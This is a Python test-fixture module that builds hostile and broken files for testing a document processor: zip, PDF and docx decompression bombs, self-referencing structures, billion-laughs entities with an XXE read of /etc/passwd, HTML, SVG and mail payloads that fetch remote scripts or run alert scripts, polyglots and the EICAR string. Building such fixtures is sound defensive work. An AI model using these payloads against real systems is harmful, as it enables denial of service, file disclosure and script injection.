"""Functions that make hostile and broken files. Each returns the content of one file."""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from pathlib import Path

from PIL import Image, ImageDraw

SAMPLES = Path(__file__).parent.parent.parent / "events" / "samples"
LOCKED_PDF = SAMPLES / "locked-invoice.pdf"
# The namespaces of OpenDocument, as attributes of an element.
ODF_SPACES = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{space}:1.0"'
    for name, space in {
        "office": "office",
        "table": "table",
        "text": "text",
        "draw": "drawing",
        "style": "style",
        "presentation": "presentation",
    }.items()
)


# --- pictures ----------------------------------------------------------------------------------------


def picture(form: str, text: str = "Invoice 4711", size: tuple[int, int] = (600, 300), **options: object) -> bytes:
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).text((30, 40), text, fill="black", font_size=48)
    stream = io.BytesIO()
    image.save(stream, form, **options)  # type: ignore[arg-type]
    return stream.getvalue()


def png(width: int, height: int) -> bytes:
    """A valid black PNG with one bit a pixel."""
    packer = zlib.compressobj(1)
    row = bytes(1 + -(-width // 8))
    many = row * 1000
    packed = [packer.compress(many) for _ in range(height // 1000)] + [packer.compress(row * (height % 1000))]
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", b"".join(packed) + packer.flush()), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks
    )


def tiff(pages: int, width: int, height: int) -> bytes:
    """A deflated TIFF of white pages with one bit a pixel. All pages share one strip of data."""
    packer = zlib.compressobj(1)
    row = b"\xff" * -(-width // 8)
    strip = b"".join(
        [*(packer.compress(row * 100) for _ in range(height // 100)), packer.compress(row * (height % 100))]
    )
    strip += packer.flush()
    out = io.BytesIO()
    out.write(b"II*\0" + struct.pack("<I", 8 + len(strip)) + strip)
    first = 8 + len(strip)
    entries = [(256, 4, width), (257, 4, height), (258, 3, 1), (259, 3, 8), (262, 3, 1), (273, 4, 8), (277, 3, 1),
               (278, 4, height), (279, 4, len(strip))]  # fmt: skip
    size = 2 + 12 * len(entries) + 4
    for number in range(pages):
        following = first + (number + 1) * size if number + 1 < pages else 0
        out.write(struct.pack("<H", len(entries)))
        for tag, kind, value in entries:
            out.write(struct.pack("<HHII", tag, kind, 1, value))
        out.write(struct.pack("<I", following))
    return out.getvalue()


# --- PDF ---------------------------------------------------------------------------------------------


def pdf(objects: Iterable[bytes], *, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a valid cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(offsets) + 1, table)
    return bytes(out) + b"trailer << /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        root,
        start,
    )


def stream(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content, 1)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), extra, packed)


def pdf_page(content: bytes, *, box: str = "0 0 612 792", resources: bytes = b"", more: Iterable[bytes] = ()) -> bytes:
    """A PDF of one page with this content stream and Helvetica as /F. The objects `more` are numbered from 6."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Resources << /Font << /F 3 0 R >> %s >> /Contents 5 0 R >>"
            % (box.encode(), resources),
            stream(content),
            *more,
        ]
    )


SAYS = b"BT /F 24 Tf 72 700 Td (Invoice 4711, total 12.50 for all of it) Tj ET"


def pdf_of_a_million_shapes() -> bytes:
    return pdf_page(SAYS + b"\n" + b"".join(b"%d %d 9 9 re f\n" % (n % 600, n // 600 % 780) for n in range(1_000_000)))


def pdf_of_many_objects(count: int) -> bytes:
    return pdf_page(SAYS, more=(b"null" for _ in range(count)))


def pdf_that_draws_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R /Y 6 0 R >> >>"
    return pdf_page(
        SAYS + b" /X Do", resources=b"/XObject << /X 6 0 R >>", more=[stream(b"/X Do /Y Do /X Do /Y Do", form)]
    )


def pdf_whose_page_tree_contains_itself() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Parent 2 0 R /Count 9 >>"])


def pdf_with_a_bomb() -> bytes:
    """A page whose content unpacks to 400 MB; it is compressed twice."""
    packed = zlib.compress(zlib.compress(b" " * 400_000_000, 1), 9)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(packed), packed),
        ]
    )


def pdf_that_calls_out(url: str) -> bytes:
    """A PDF with scripts, links and actions that a viewer may follow."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (%s/open) >> /AA << /WC << /S /JavaScript /JS "
            b"(app.launchURL\\('%s/js'\\)) >> >> >>" % (url.encode(), url.encode()),
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F 3 0 R >> /XObject << /X << "
            b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (%s/image) >> >> >> >> /Contents 5 0 R >>"
            % url.encode(),
            stream(SAYS + b" /X Do"),
        ]
    )


def pdf_with_a_broken_font() -> bytes:
    """A PDF whose text uses a TrueType font with random bytes for tables."""
    program = b"\x00\x01\x00\x00\x00\x0c\x00\x80\x00\x03\x00\x40" + random.Random(7).randbytes(4000)
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /Broken /FirstChar 32 /LastChar 33 /Widths [500 500] "
    return pdf_page(
        SAYS.replace(b"/F ", b"/B "),
        resources=b"/Font << /B 6 0 R >>",
        more=[
            font + b"/FontDescriptor 7 0 R >>",
            b"<< /Type /FontDescriptor /FontName /Broken /Flags 32 /FontFile2 8 0 R /FontBBox [0 0 1000 1000] "
            b"/ItalicAngle 0 /Ascent 900 /Descent -100 /CapHeight 700 /StemV 80 >>",
            stream(program),
        ],
    )


# --- zips and office documents -----------------------------------------------------------------------


def zipped(members: Mapping[str, bytes | str], *, store: bool = False, level: int = 1) -> bytes:
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if store else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", method, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_within_zips(depth: int) -> bytes:
    content = zipped({"innermost.txt": "at last"})
    for level in range(depth):
        content = zipped({f"{level}.zip": content, "again.zip": content if level < 10 else b""}, store=True)
    return content


def zip_of_zips(levels: int, width: int) -> bytes:
    """A small zip that unpacks to `width ** levels` MiB if the zips inside it are unpacked too."""
    content = zipped({"innermost": bytes(1 << 20)}, level=9)
    for _ in range(levels):
        content = zipped({f"{index}.zip": content for index in range(width)}, level=9)
    return content


def zip_of_overlapping_members(count: int, megabytes: int) -> bytes:
    """A bomb without nesting: all members in the directory refer to the same compressed bytes."""
    content = bytes(megabytes << 20)
    single = zipped({"a": content})
    directory = single.index(b"PK\x01\x02")
    end = single.index(b"PK\x05\x06")
    entry = single[directory:end]
    head = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, directory, 0)
    return single[:directory] + entry * count + head


def locked_zip() -> bytes:
    """A zip whose member is marked as encrypted."""
    content = bytearray(zipped({"a.txt": "hidden"}, store=True))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>{more}</Types>'
)
RELATIONS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{items}</Relationships>"
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def relation(number: int, kind: str, target: str, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def docx(body: str | bytes, *, relations: str = "", head: str = "", level: int = 1) -> bytes:
    """A Word document with this body in WordprocessingML."""
    start = f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document xmlns:w="{WORDS}" xmlns:r="{OFFICE}" '
    start += 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>'
    middle = body if isinstance(body, bytes) else body.encode()
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(part="/word/document.xml", kind="wordprocessingml.document", more=""),
            "_rels/.rels": RELATIONS.format(items=relation(1, "officeDocument", "word/document.xml")),
            "word/document.xml": start.encode() + middle + b"</w:body></w:document>",
            "word/_rels/document.xml.rels": RELATIONS.format(items=relations),
        },
        level=level,
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_bomb(megabytes: int) -> bytes:
    """A small Word document whose text unpacks to `megabytes`: the same words repeated."""
    return docx(paragraph("Invoice 4711 total 12.50 " * 400).encode() * (megabytes * 100), level=6)


def docx_that_calls_out(url: str) -> bytes:
    linked_pictures = (
        '<w:p><w:r><w:drawing><a:blip r:link="rId7"/></w:drawing></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rId8"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>'
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "{url}/field"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    relations = "".join(
        (
            relation(7, "image", f"{url}/picture.png", outside=True),
            relation(8, "hyperlink", "javascript:alert(1)", outside=True),
            relation(9, "attachedTemplate", f"{url}/template.dotm", outside=True),
            relation(10, "image", "file:///etc/passwd", outside=True),
            relation(11, "frame", f"{url}/frame.html", outside=True),
        )
    )
    return docx(paragraph("Invoice 4711, total 12.50") + linked_pictures, relations=relations)


ENTITIES = (
    "<!DOCTYPE {root} [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
    + "<!ENTITY file SYSTEM 'file:///etc/passwd'>]>"
)


def docx_with_entities() -> bytes:
    return docx(paragraph("Invoice &a10; &file;"), head=ENTITIES.format(root="w:document"))


def xlsx(rows: Iterable[Iterable[object]]) -> bytes:
    """A workbook with one sheet of these rows of numbers and strings."""
    lines = [
        "<row>"
        + "".join(
            f"<c><v>{cell}</v></c>" if isinstance(cell, int | float) else f'<c t="inlineStr"><is><t>{cell}</t></is></c>'
            for cell in row
        )
        + "</row>"
        for row in rows
    ]
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet_type = (
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    )
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(part="/xl/workbook.xml", kind="spreadsheetml.sheet", more=sheet_type),
            "_rels/.rels": RELATIONS.format(items=relation(1, "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{main}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="One" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": RELATIONS.format(items=relation(1, "worksheet", "worksheets/sheet1.xml")),
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData>'
            + "".join(lines)
            + "</sheetData></worksheet>",
        }
    )


def large_workbook(rows: int) -> bytes:
    return xlsx([["Invoice", "Total"], *(["item", n, n * 2, n / 4, "total"] for n in range(rows))])


def locked_workbook() -> bytes:
    """An encrypted workbook: an OLE container whose directory has one stream, `EncryptedPackage`."""
    sector, none, end = 512, 0xFFFFFFFF, 0xFFFFFFFE

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        wide = name.encode("utf-16-le") + b"\0\0"
        return struct.pack(
            "<64sHBBIII16sIQQIQ", wide, len(wide), kind, 1, none, none, child, bytes(16), 0, 0, 0, start, size
        )

    directory = entry("Root Entry", 5, 1, end, 0) + entry("EncryptedPackage", 2, none, 2, 4608) + bytes(256)
    table = struct.pack("<2I", 0xFFFFFFFD, end) + b"".join(struct.pack("<I", n) for n in (*range(3, 11), end))
    head = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 0x3E, 3, 0xFFFE, 9, 6, bytes(6),
        0, 1, 1, 0, 4096, end, 0, end, 0,
    )  # fmt: skip
    head += struct.pack("<I", 0) + b"\xff" * (sector - len(head) - 4)
    return head + table.ljust(sector, b"\xff") + directory.ljust(sector, b"\0") + random.Random(4).randbytes(9 * sector)


# --- markup and mail ---------------------------------------------------------------------------------


def svg(inside: str, head: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="300" height="200" viewBox="0 0 300 200">{inside}</svg>'
    ).encode()


def svg_of_nested_uses(levels: int) -> bytes:
    shapes = "".join(f'<g id="u{n}">' + f'<use xlink:href="#u{n - 1}" x="1"/>' * 10 + "</g>" for n in range(1, levels))
    return svg(f'<defs><g id="u0"><rect width="9" height="9"/></g>{shapes}</defs><use xlink:href="#u{levels - 1}"/>')


def svg_that_uses_itself() -> bytes:
    return svg(
        '<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g><text x="9" y="20">Invoice</text>'
    )


def svg_that_calls_out(url: str) -> bytes:
    return svg(
        f'<script>fetch("{url}/script")</script><script href="{url}/src.js"/>'
        f'<style>@import url("{url}/style.css"); text {{ fill: url({url}/fill.svg#a) }}</style>'
        f'<image href="{url}/picture.png" width="9" height="9"/><image href="file:///etc/passwd" width="9" height="9"/>'
        f'<use href="{url}/other.svg#a"/><foreignObject><iframe src="{url}/frame"/></foreignObject>'
        f'<rect width="9" height="9" onload="fetch(\'{url}/onload\')"/><text x="9" y="90">Invoice 4711 total 12.50</text>'
    )


def html_that_calls_out(url: str) -> bytes:
    return f"""<!doctype html><html><head><base href="{url}/"><link rel="stylesheet" href="{url}/style.css">
<meta http-equiv="refresh" content="0; url={url}/refresh"><script src="{url}/a.js"></script><style>@import "{url}/b.css";
body {{ background: url({url}/background.png) }}</style></head><body onload="fetch('{url}/onload')">
<h1>Invoice 4711</h1><p>Total: 12.50</p><img src="{url}/a.png" srcset="{url}/b.png 2x" onerror="fetch('{url}/error')">
<img src="file:///etc/passwd"><iframe src="{url}/frame"></iframe><object data="{url}/object"></object>
<embed src="{url}/embed"><video src="{url}/video" poster="{url}/poster"></video><form action="{url}/form"><input></form>
<svg><script>fetch('{url}/svg')</script><image href="{url}/svg.png"/></svg><a href="javascript:alert(1)">here</a>
<math><mtext><style><img src={url}/mutated onerror=alert(1)></style></mtext></math><p style="background:url({url}/p)">end</p>
<script>document.write('<img src="{url}/written">')</script></body></html>""".encode()


def mail_that_calls_out(url: str) -> bytes:
    page = html_that_calls_out(url).decode()
    return (
        "From: a@example.com\r\nTo: b@example.com\r\nSubject: Invoice 4711 <script>alert(1)</script>\r\n"
        "Date: Mon, 2 Mar 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n'
        f'{page}\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="{url}/body"\r\n\r\n'
        f"Content-Type: text/plain\r\n\r\n\r\n--b--\r\n"
    ).encode()


def mail_of_many_parts(count: int) -> bytes:
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nTotal: 12.50, part of many\r\n"
    head = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: Invoice 4711\r\nMIME-Version: 1.0\r\n"
    return head + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + part * count + b"--b--\r\n"


def mail_within_mails(depth: int) -> bytes:
    content = b"Subject: innermost\r\nFrom: a@example.com\r\nTo: b@example.com\r\n\r\nTotal: 12.50\r\n"
    for level in range(depth):
        content = (
            b"From: a@example.com\r\nTo: b@example.com\r\nSubject: level %d\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\nContent-Type: message/rfc822\r\n\r\n'
            b"%s\r\n--b%d--\r\n" % (level, level, level, content, level)
        )
    return content


def mailbox_of_messages(count: int) -> bytes:
    return b"From a@example.com Mon Mar  2 10:00:00 2026\nFrom: a@example.com\nSubject: one\n\nTotal: 12.50\n\n" * count


def mail_with(kind: str, name: str, content: bytes, count: int = 1) -> bytes:
    """A mail with copies of an attached file."""
    part = (
        f'--b\r\nContent-Type: {kind}\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + base64.encodebytes(content)
    head = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: Total: 12.50\r\nMIME-Version: 1.0\r\n"
    return head + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + part * count + b"--b--\r\n"


def mail_with_bombs(count: int) -> bytes:
    return mail_with("application/octet-stream", "a.docx", docx_bomb(70), count)


def mail_signed_often(layers: int) -> bytes:
    """A message inside a signature inside a signature, and so on."""
    content = b"Content-Type: text/plain\r\n\r\nTotal: 12.50\r\n"
    for _ in range(layers):
        content = mail_with("application/pkcs7-mime", "smime.p7m", _signed(content))
    return content


def _signed(content: bytes) -> bytes:
    def value(tag: int, *parts: bytes) -> bytes:
        body = b"".join(parts)
        return bytes([tag, 0x84]) + len(body).to_bytes(4, "big") + body

    data, signed = (value(6, b"\x2a\x86\x48\x86\xf7\x0d\x01\x07" + bytes([last])) for last in (1, 2))
    inner = value(0x30, data, value(0xA0, value(4, content)))
    return value(0x30, signed, value(0xA0, value(0x30, b"\x02\x01\x01", value(0x31), inner, value(0x31))))


def mail_with_winmail(size_bytes: int) -> bytes:
    return mail_with("application/ms-tnef", "winmail.dat", b"\x78\x9f\x3e\x22" + bytes(size_bytes))


# --- programs, noise, files of two formats -----------------------------------------------------------


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQ", 2, 62, 1, 0x401000, 64, 0) + bytes(4000)


def windows_program() -> bytes:
    head = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return head + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + bytes(4000)


def noise(count: int, seed: int = 6) -> bytes:
    """Random bytes that start like no known format."""
    return b"\x91\x03" + random.Random(seed).randbytes(count)


def pdf_and_zip() -> bytes:
    return pdf_page(SAYS) + zipped({"evil.exe": elf()})


def video_of_noise() -> bytes:
    """An MP4 whose index consists of random bytes."""
    head = b"isom\x00\x00\x02\x00isomiso2avc1mp41"
    index = random.Random(8).randbytes(20_000)
    return struct.pack(">I4s", len(head) + 8, b"ftyp") + head + struct.pack(">I4s", len(index) + 8, b"moov") + index


def gif_and_script() -> bytes:
    """A GIF that is also a valid script, by its comment."""
    image = picture("GIF")
    return image[:-1] + b"\x21\xfe\x10=1;alert('hello')\x00\x3b"


def html_in_a_picture() -> bytes:
    return picture("JPEG", comment=b"<html><script>alert(1)</script>")


EICAR = base64.b64decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")
